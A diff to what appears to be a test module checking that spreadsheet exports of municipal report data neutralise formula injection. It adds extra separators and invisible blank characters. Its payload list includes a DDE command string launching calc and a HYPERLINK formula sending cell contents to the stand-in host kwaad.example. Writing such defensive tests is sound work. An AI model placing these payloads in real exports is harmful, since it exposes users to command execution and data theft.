@@ -27,7 +27,7 @@ from tests.support.reporting import Desk, counted, forms, municipality, reportin
 
 SEPARATORS = {"comma": ",", "semicolon": ";"}
 #: At each of these some program ends a cell.
-SPLITS = ",;\t| "
+SPLITS = ",;\t| ؛"
 SIGNS = "=+-@＝＋－＠"
 #: What stands before a mark: nothing, text, text in the quotes of another program.
 STARTS = ("", "x", '"x"', "'", "Zuid", "Kade 3", "Kade ")
@@ -48,9 +48,26 @@ MARKS = (
     '";',
     "；",
     "，",
+    "🄁",
+    "؛",
     ";;",
 )
-BLANKS = ("", " ", "\u00a0", "\u200b", "\ufeff", "\u3000", "\u2060 ", "\u202e", "\u00ad", "\u3164", "'", '"')
+BLANKS = (
+    "",
+    " ",
+    "\u00a0",
+    "\u200b",
+    "\ufeff",
+    "\u3000",
+    "\u2060 ",
+    "\u202e",
+    "\u00ad",
+    "\u3164",
+    "\u0600",
+    "\U00013430",
+    "'",
+    '"',
+)
 FORMULAS = ("cmd|'/c calc'!A1", "1+1", 'HYPERLINK("https://kwaad.example/?"&A1;"ja")', "SUM(A1:A9)")
 #: Columns whose text somebody writes.
 HELD = ("neighbourhood", "neighbourhoodName", "signalTypeName", "departmentName")
